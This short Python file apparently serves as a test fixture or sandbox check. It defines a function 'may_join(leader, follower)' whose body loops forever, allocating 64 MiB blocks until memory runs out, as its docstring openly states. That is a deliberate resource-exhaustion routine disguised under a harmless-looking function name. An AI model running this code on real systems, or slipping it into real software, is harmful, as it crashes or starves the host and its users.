"""Takes all the memory there is."""

def may_join(leader, follower):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
